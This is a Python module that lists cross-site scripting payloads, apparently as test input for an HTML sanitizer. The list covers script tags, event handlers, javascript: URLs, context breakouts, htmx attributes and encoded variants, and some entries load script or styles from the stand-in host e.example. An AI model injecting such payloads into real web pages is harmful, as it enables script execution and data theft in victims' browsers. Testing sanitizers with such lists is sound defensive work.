"""Words that would like to run in somebody else's browser: one for each way of breaking out of the place they stand in."""

MARK = "pwn"
"""What an element or an attribute is called that only these words can have made."""

SCRIPTS = (
    "<script>pwn(1)</script>", "</script><script>pwn(1)</script>", "<SCRIPT SRC=//e.example/x.js></SCRIPT>", "<script/x>pwn(1)</script>",
    "<img src=x onerror=pwn(1)>", "<img/src=x/onerror=pwn(1)>", "<svg onload=pwn(1)>", "<svg/onload=pwn(1)//", "<body onload=pwn(1)>",
    "<details open ontoggle=pwn(1)>", "<input autofocus onfocus=pwn(1)>", "<video src=x onerror=pwn(1)>", "<audio src=x onerror=pwn(1)>",
    "<iframe src=javascript:pwn(1)>", "<iframe srcdoc='<script>pwn(1)</script>'>", "<object data=javascript:pwn(1)>",
    "<embed src=javascript:pwn(1)>", "<a href=javascript:pwn(1)>go</a>", "<a href='java&#x09;script:pwn(1)'>go</a>",
    "<form action=javascript:pwn(1)><button>go", "<button formaction=javascript:pwn(1)>go", "<math><mi xlink:href=javascript:pwn(1)>",
    "<meta http-equiv=refresh content='0;url=//e.example'>", "<base href=//e.example/>", "<link rel=stylesheet href=//e.example/x.css>",
    "<style>@import '//e.example/x.css'</style>", "<style>*{background:url(//e.example)}</style>", "<p style=background:url(//e.example)>",
    "<table background=//e.example/x>", "<pwn-element>x</pwn-element>", "\" onmouseover=pwn(1) x=\"", "' onmouseover=pwn(1) x='",
    "\"><pwn-element>", "'><pwn-element>", "\"/><svg/onload=pwn(1)>", "` onmouseover=pwn(1) x=`", "--><pwn-element>", "]]><pwn-element>",
    "</title><pwn-element>", "</textarea><pwn-element>", "</style><pwn-element>", "</svg><pwn-element>", "</text><pwn-element>",
    "</option></select><pwn-element>", "</noscript><pwn-element>", "<!--><pwn-element>", "<![CDATA[<pwn-element>]]>", "<?pwn x?>",
    "<div hx-get=/pwn hx-trigger=load>", "<div data-hx-post=/pwn data-hx-trigger=load>", "\" hx-get=/pwn hx-trigger=load x=\"",
    "<div hx-on:click=pwn(1)>", "<div hx-ext=pwn>", "{{ 7*7 }}pwn{% debug %}", "${pwn(1)}", "#{pwn(1)}", "javascript:pwn(1)",
    "data:text/html,<script>pwn(1)</script>", "&lt;script&gt;pwn(1)&lt;/script&gt;", "&#60;pwn-element&#62;", "%3Cpwn-element%3E",
    "\\u003cpwn-element\\u003e", "＜pwn-element＞", "<\u200bscript>pwn(1)</script>", "<scr<script>ipt>pwn(1)</script>",
)  # fmt: skip
